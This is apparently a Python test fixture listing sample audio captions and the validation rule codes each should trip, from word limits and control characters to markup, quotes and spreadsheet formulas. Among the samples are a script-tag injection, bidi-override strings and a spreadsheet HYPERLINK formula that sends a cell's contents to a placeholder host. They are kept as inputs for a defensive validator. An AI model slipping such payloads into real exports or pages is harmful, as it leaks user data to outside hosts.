"""Captions and the rule codes each breaks under LIMITS, shared by test_rules (Python) and
tests/browser/test_annotator.py (the same table run by static/caption_rules.js)."""

from __future__ import annotations

from annotation.rules import Limits

LIMITS = Limits(min_words=3, max_words=12, max_chars=120)

SAMPLES: list[tuple[str, set[str]]] = [
    ("a dog barks loudly while cars pass by", set()),
    ("A man speaks while a dog barks in the distance", set()),
    ("", {"empty"}),
    ("x" * 121, {"max_chars"}),
    ("dog barks loudly", set()),
    ("dog barks", {"min_words", "detail"}),
    ("a dog barks loudly and a car passes by and a bird sings", {"max_words"}),
    ("a dog\x07 barks loudly", {"control"}),
    ("a dog barks loudly\x1f", {"control"}),
    ("a dog \x85barks loudly", {"control"}),
    ("a dog \u202eskrab loudly", {"bidi"}),
    ("a dog \u2067barks loudly", {"bidi"}),
    ("a dog barks \u200floudly", {"bidi"}),
    ("a dog <b>barks</b> loudly", {"markup"}),
    ('<script>alert("x")</script> a dog barks', {"markup", "quotes", "detail"}),
    ("There is a dog barking loudly", {"opener"}),
    ("there are birds chirping nearby", {"opener"}),
    ("You can hear a car passing", {"opener"}),
    ("In this video a man speaks loudly", {"opener"}),
    ("Sounds like rain falling softly", {"opener"}),
    ("This is a loud engine", {"opener"}),
    ("Thereafter a bell rings twice", set()),
    ('a man says "come here" loudly', {"quotes"}),
    ("a woman says \u201chello\u201d quietly", {"quotes"}),
    ("a man shouts 'stop it' loudly", {"quotes"}),
    ("a dog's bark echoes loudly", set()),
    ("the dogs' barks echo loudly", set()),
    ("a man talks to John loudly", {"proper_name"}),
    ("a car passes, Maria laughs loudly", {"proper_name"}),
    ("a TV plays loudly in a room", set()),
    ("I hear a dog barking loudly", {"opener"}),
    ("a red car honks loudly", {"visual"}),
    ("a man is seen hammering loudly", {"visual"}),
    ("white noise hisses loudly", set()),
    ("a see-saw creaks slowly", set()),
    ("a dog barks loudly. A car passes.", {"one_sentence"}),
    ("a dog barks loudly... and a car passes", set()),
    ("dog, car, wind", {"word_list", "detail"}),
    ("people talking, music, dog barking", {"word_list", "detail"}),
    ("people talking, music, a dog barking loudly", set()),
    ("a dog barks, a car passes and wind blows loudly", set()),
    ("a dog barked loudly at a car", {"tense"}),
    ("a dog barks at a car", {"detail"}),
    ("un perro ladra, 狗在叫, 🐕 barks loudly", set()),
    ("a   dog\tbarks\nloudly", set()),
    ("a motor {words} hums loudly", set()),
    # what a spreadsheet opening an export would run as a formula
    ('=HYPERLINK("http://x.example/?"&A1, "a dog barks loudly")', {"formula", "quotes"}),
    ("+1 a dog barks loudly", {"formula"}),
    ("-2+3 a dog barks loudly", {"formula"}),
    ("@SUM(1+1) a dog barks loudly", {"formula"}),
    ("\u00a0=1+1 a dog barks loudly", {"formula"}),
    ("\uff1d1+1 a dog barks loudly", {"formula"}),
    ("\t=1+1 a dog barks loudly", {"formula"}),  # untrimmed: the rule still sees it
    ("\ra dog barks loudly", {"formula"}),
    ("a dog barks loudly = cars + wind - rain @ night", set()),
    ("a well-known dog barks loudly", set()),
]
